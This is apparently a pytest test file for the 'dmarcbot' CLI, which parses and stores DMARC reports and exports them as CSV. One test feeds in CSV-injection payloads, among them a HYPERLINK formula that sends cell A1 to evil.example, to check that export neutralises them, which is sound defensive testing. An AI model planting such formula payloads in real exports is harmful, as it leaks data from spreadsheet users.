"""The `dmarcbot` command line, as a user meets it."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import time
from pathlib import Path

import pytest

from analysis.serialize import spreadsheet_safe
from function_app.cli import main
from store import SqliteStore
from tests.builders import aggregate_xml, gzipped, record_xml
from tests.conftest import REFUSED_SAMPLES

REPORT_KEYS = {"kind", "schema", "source", "reporter", "report_id", "begin", "end", "generator",
               "errors", "policy", "records"}
POLICY_KEYS = {"domain", "p", "sp", "np", "adkim", "aspf", "pct", "fo", "testing",
               "discovery_method"}
RECORD_KEYS = {"source_ip", "count", "disposition", "dkim", "spf", "reasons", "header_from",
               "envelope_from", "envelope_to", "auth_dkim", "auth_spf"}


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def test_parse_prints_the_json_contract(capsys: pytest.CaptureFixture[str],
                                        samples: Path) -> None:
    code, out, err = run(capsys, "parse", str(samples / "aggregate" / "nice-input.xml.gz"))
    assert code == 0 and err == ""
    (line,) = out.splitlines()
    report = json.loads(line)
    assert set(report) >= REPORT_KEYS
    assert set(report["policy"]) >= POLICY_KEYS
    assert report["begin"] == "2024-06-13T00:00:00Z" and report["end"] == "2024-06-13T23:59:59Z"
    assert set(report["reporter"]) == {"org_name", "email", "extra_contact_info"}
    assert len(report["records"]) == 20
    for record in report["records"]:
        assert set(record) >= RECORD_KEYS
        for dkim in record["auth_dkim"]:
            assert {"domain", "selector", "result"} <= set(dkim)
        for spf in record["auth_spf"]:
            assert {"domain", "scope", "result"} <= set(spf)
    assert sum(r["count"] for r in report["records"]) == 3047


def test_parse_every_sample_one_line_each(capsys: pytest.CaptureFixture[str],
                                          samples: Path) -> None:
    code, out, err = run(capsys, "parse", str(samples))
    kinds = [json.loads(line)["kind"] for line in out.splitlines()]
    assert sorted(set(kinds)) == ["aggregate", "failure", "tls"]
    assert len(kinds) == 17 - len(REFUSED_SAMPLES)
    assert code == 1  # the refused ones, each in one line naming its limit
    lines = err.splitlines()
    assert len(lines) == len(REFUSED_SAMPLES)
    for name, limit in REFUSED_SAMPLES.items():
        assert any(line.startswith(f"rejected: {samples / name}: ")
                   and line.endswith(f"(limit {limit})") for line in lines), (name, lines)


def test_parse_csv(capsys: pytest.CaptureFixture[str], samples: Path) -> None:
    code, out, err = run(capsys, "parse", "--format", "csv", str(samples))
    rows = list(csv.DictReader(io.StringIO(out)))
    assert code == 1  # RFC 9990's example, dated 1979, is refused (tests/conftest.py)
    assert len(rows) == 2286 + 1 + 1 + 1 + 1 + 1 + 1 + 20 * 3 + 1 + 1
    assert {r["policy_domain"] for r in rows} >= {"example.com", "borschow.com"}
    assert "skipped (CSV holds aggregate records only)" in err


#: What a spreadsheet reads as the start of a formula (OWASP "CSV Injection"): those that survive
#: the reader (it strips leading tab, CR and LF; serialize's own test covers them) and the
#: full-width forms.
FORMULA_CHARS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def test_parse_csv_cells_never_start_a_formula(capsys: pytest.CaptureFixture[str],
                                                tmp_path: Path) -> None:
    """Every text a report holds is the sender's to choose; none may run in a spreadsheet."""
    for i, c in enumerate(FORMULA_CHARS):
        name = "@" if c == "=" else c  # a DKIM/SPF name holding "=" is skipped as no name
        rid = "-" if c == "@" else c  # a report id ends at "@"
        auth = (f"<dkim><domain>{name}d.example</domain><selector>{name}s1</selector>"
                f"<result>pass</result></dkim><spf><domain>{name}spf.example</domain>"
                "<result>pass</result></spf>")
        record = record_xml("192.0.2.1", 3, header_from=f"{c}hf.example",
                            envelope_from=f"{c}ef.example", envelope_to=f"{c}et.example",
                            auth=auth, reasons=f"<reason><type>other</type><comment>{c}x"
                                               "</comment></reason>")
        (tmp_path / f"r{i}.xml").write_bytes(aggregate_xml(
            record, org=f'{c}HYPERLINK("http://evil.example/?"&A1,"click")',
            report_id=f"{rid}id;=1+2", domain=f"{c}example.com"))
    code, out, err = run(capsys, "parse", "--format", "csv", str(tmp_path))
    assert (code, err) == (0, "")
    header, *rows = list(csv.reader(io.StringIO(out)))
    assert len(rows) == len(FORMULA_CHARS)
    dangerous = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
    for row in rows:
        cells = dict(zip(header, row, strict=True))
        for field, cell in cells.items():
            assert not cell.startswith(dangerous), (field, cell)
        c = cells["org_name"][1]
        assert cells["org_name"] == f"'{c}HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
        assert (cells["policy_domain"], cells["header_from"], cells["envelope_from"],
                cells["envelope_to"]) == (f"'{c}example.com", f"'{c}hf.example",
                                          f"'{c}ef.example", f"'{c}et.example")
        name, rid = "@" if c == "=" else c, "-" if c == "@" else c
        assert cells["report_id"] == f"'{rid}id;=1+2"
        assert (cells["dkim_domains"], cells["dkim_selectors"], cells["spf_domains"]) == (
            f"'{name}d.example", f"'{name}s1", f"'{name}spf.example")
        assert cells["count"] == "3" and cells["reasons"] == f"other:{c}x"
    # Every text cell is quoted, so a ";" inside one cannot open a cell in a spreadsheet that
    # splits on ";"; the count stays a bare number.
    for line in out.splitlines()[1:]:
        assert line.startswith(f'"{tmp_path}') and ',"192.0.2.1",3,"none",' in line
        assert re.search(r',"\'.id;=1\+2",', line), line


@pytest.mark.parametrize("value", ["=1+2", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
                                   "\uff1d1", "\uff0b1", "\uff0d1", "\uff201"])
def test_a_cell_starting_like_a_formula_gets_a_quote(value: str) -> None:
    assert spreadsheet_safe(value) == "'" + value


def test_other_cells_are_left_alone() -> None:
    for value in ("example.com", "", "'=1", " =1", "1-2", 3, -5, None):
        assert spreadsheet_safe(value) == value  # numbers stay numbers: no number is a formula


@pytest.mark.parametrize(("value", "written"), [
    # OWASP "CSV Injection"'s own examples, in the quoting `dmarcbot parse --format csv` uses.
    ('=1+2";=1+2', '"\'=1+2"";=1+2"'),
    ("=1+2'\" ;,=1+2", '"\'=1+2\'"" ;,=1+2"'),
])
def test_owasp_examples_are_written_as_owasp_shows(value: str, written: str) -> None:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_NONNUMERIC).writerow(
        [spreadsheet_safe(value)])
    assert out.getvalue() == written + "\n"


def test_parse_rejection_is_one_line_and_exit_1(capsys: pytest.CaptureFixture[str],
                                                tmp_path: Path) -> None:
    bad = tmp_path / "bad.xml.gz"
    bad.write_bytes(b"\x1f\x8b" + b"\x00" * 50)
    good = tmp_path / "good.xml"
    good.write_bytes(aggregate_xml())
    code, out, err = run(capsys, "parse", str(bad), str(good))
    assert code == 1
    assert len(out.splitlines()) == 1  # the good one still printed
    (line,) = err.splitlines()
    assert line.startswith(f"rejected: {bad}: ") and "gzip" in line


def test_ingest_lines_and_exit_status(capsys: pytest.CaptureFixture[str],
                                      tmp_path: Path) -> None:
    db = str(tmp_path / "db.sqlite3")
    good = tmp_path / "r.xml.gz"
    good.write_bytes(gzipped(aggregate_xml(record_xml(count=3))))
    junk = tmp_path / "notes.txt"
    junk.write_text("shopping list")
    code, out, _ = run(capsys, "--db", db, "ingest", str(good))
    assert (code, out) == (0, f"{good}: stored\n")
    code, out, _ = run(capsys, "--db", db, "ingest", str(good), str(junk))
    assert code == 1
    assert out.splitlines() == [
        f"{good}: duplicate",
        f"rejected: {junk}: not a report: content is not XML, JSON, gzip, zip or e-mail",
    ]


def test_ingest_refuses_reports_dated_out_of_reason(capsys: pytest.CaptureFixture[str],
                                                    tmp_path: Path,
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    """A report dated 2099 would silence alerts until then; one from 2011 predates DMARC."""
    db = tmp_path / "db.sqlite3"
    future = tmp_path / "future.xml"
    future.write_bytes(aggregate_xml(report_id="f", begin=4_070_908_800, end=4_070_995_199))
    past = tmp_path / "past.xml.gz"
    past.write_bytes(gzipped(aggregate_xml(report_id="p", begin=1_306_886_400,
                                           end=1_306_972_799)))
    for path, limit, detail in (
        (future, "max_future_hours=24", "report ends 2099-01-01T23:59:59Z"),
        (past, "earliest_report_year=2012", "report begins 2011-06-01T00:00:00Z"),
    ):
        code, out, err = run(capsys, "--db", str(db), "ingest", str(path))
        assert code == 1 and err == ""
        (line,) = out.splitlines()
        assert line.startswith(f"rejected: {path}: {detail}"), line
        assert line.endswith(f"(limit {limit})"), line
    with SqliteStore(db) as store:
        assert list(store.reports()) == [] and list(store.rollups()) == []

    # A receiver whose clock runs a few hours ahead is believed.
    now = int(time.time())
    skewed = tmp_path / "skewed.xml"
    skewed.write_bytes(aggregate_xml(report_id="s", begin=now - 21 * 3600, end=now + 3 * 3600))
    code, out, _ = run(capsys, "--db", str(db), "ingest", str(skewed))
    assert (code, out) == (0, f"{skewed}: stored\n")

    # The future's allowance is a setting like the other limits.
    monkeypatch.setenv("DMARCBOT_MAX_FUTURE_HOURS", str(100 * 365 * 24))
    code, out, _ = run(capsys, "--db", str(db), "ingest", str(future))
    assert (code, out) == (0, f"{future}: stored\n")
    with SqliteStore(db) as store:
        assert sorted(e.key.report_id for e in store.reports()) == ["f", "s"]


def test_summary_text_and_json(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    db = str(tmp_path / "db.sqlite3")
    records = (record_xml("192.0.2.1", 6) + record_xml("192.0.2.2", 3, dkim="fail")
               + record_xml("198.51.100.9", 1, dkim="fail", spf="fail"))
    report = tmp_path / "r.xml"
    report.write_bytes(aggregate_xml(records, org="Receiver One"))
    assert run(capsys, "--db", db, "ingest", str(report))[0] == 0
    code, out, _ = run(capsys, "--db", db, "summary", "--json")
    (line,) = out.splitlines()
    s = json.loads(line)
    assert code == 0
    assert (s["domain"], s["messages"], s["dmarc_pass"], s["dkim_aligned_pass"],
            s["spf_aligned_pass"]) == ("example.com", 10, 9, 6, 9)
    assert s["dmarc_pass_pct"] == 90.0 and s["reporters"] == {"Receiver One": 1}
    assert s["top_sources"][0] == {"ip": "192.0.2.1", "messages": 6, "dmarc_pass": 6}
    code, out, _ = run(capsys, "--db", db, "summary", "--domain", "EXAMPLE.com")
    assert "DMARC pass" in out and "90.0%" in out and "Receiver One (1)" in out
    code, out, _ = run(capsys, "--db", db, "summary", "--since", "2030-01-01")
    assert "No aggregate reports stored" in out


def test_user_errors_are_one_line(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                  monkeypatch: pytest.MonkeyPatch) -> None:
    db = str(tmp_path / "db.sqlite3")
    code, _, err = run(capsys, "--db", db, "summary", "--since", "last tuesday")
    assert code == 2 and err == "dmarcbot: error: --since 'last tuesday' is not a date " \
                                "(YYYY-MM-DD)\n"
    monkeypatch.setenv("DMARCBOT_MAX_RATIO", "lots")
    code, _, err = run(capsys, "--db", db, "summary")
    assert code == 2 and err == "dmarcbot: error: DMARCBOT_MAX_RATIO='lots' is not a whole number\n"
    monkeypatch.delenv("DMARCBOT_MAX_RATIO")
    notdb = tmp_path / "junk.sqlite3"
    notdb.write_bytes(b"junk" * 1000)
    code, _, err = run(capsys, "--db", str(notdb), "summary")
    assert code == 1 and len(err.splitlines()) == 1 and "cannot open the database" in err


def test_db_defaults_to_env_then_data_dir(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                          monkeypatch: pytest.MonkeyPatch) -> None:
    report = tmp_path / "r.xml"
    report.write_bytes(aggregate_xml())
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "xdg"))
    monkeypatch.delenv("DMARCBOT_DB", raising=False)
    assert run(capsys, "ingest", str(report))[0] == 0
    assert (tmp_path / "xdg" / "dmarcbot" / "dmarcbot.sqlite3").is_file()
    monkeypatch.setenv("DMARCBOT_DB", str(tmp_path / "env.sqlite3"))
    assert run(capsys, "ingest", str(report))[0] == 0
    assert (tmp_path / "env.sqlite3").is_file()


def test_demo_from_the_installed_command(tmp_path: Path) -> None:
    """The README's first command ends in `dmarcbot demo`: run the console script for real."""
    exe = Path(sys.executable).with_name("dmarcbot")
    assert exe.is_file(), "the dmarcbot console script is not installed in this environment"
    env = {**os.environ, "TMPDIR": str(tmp_path), "HOME": str(tmp_path)}
    result = subprocess.run([str(exe), "demo"], capture_output=True, text=True, env=env,
                            timeout=120, check=False)
    assert result.returncode == 0, result.stderr
    assert result.stderr == ""
    out = result.stdout
    assert "contoso.com" in out and "fabrikam.com" in out
    assert "0 rejected" in out and "reports stored" in out
    assert "google.com" in out and "Enterprise Outlook" in out and "Yahoo" in out
    # named services, from the demo's own DNS (no network)
    assert "Who sends as these domains" in out
    assert "SendGrid (Twilio)" in out and "Mailchimp (Intuit)" in out
    assert "DKIM is not enabled for fabrikam.com in Microsoft 365" in out
    assert "impostor" in out and "forwarded" in out
    assert "The road to enforcement" in out
    # the store lives in the demo's temporary folder, not in the user's data folder
    assert not (tmp_path / ".local" / "share" / "dmarcbot").exists()


def test_an_internal_error_in_one_input_does_not_stop_the_batch(
        capsys: pytest.CaptureFixture[str], tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    import function_app.pipeline as pipeline

    real = pipeline.read_reports

    def flaky(source, *args, **kwargs):  # type: ignore[no-untyped-def]
        if str(source).endswith("bad.xml"):
            raise TypeError("a bug")
        return real(source, *args, **kwargs)

    monkeypatch.setattr(pipeline, "read_reports", flaky)
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    (inbox / "bad.xml").write_bytes(aggregate_xml(report_id="x"))
    (inbox / "good.xml").write_bytes(aggregate_xml(report_id="y"))
    code, out, _ = run(capsys, "--db", str(tmp_path / "db.sqlite3"), "ingest", str(inbox))
    assert code == 1
    assert out.splitlines() == [
        f"rejected: {inbox / 'bad.xml'}: internal error (TypeError); please report it",
        f"{inbox / 'good.xml'}: stored",
    ]
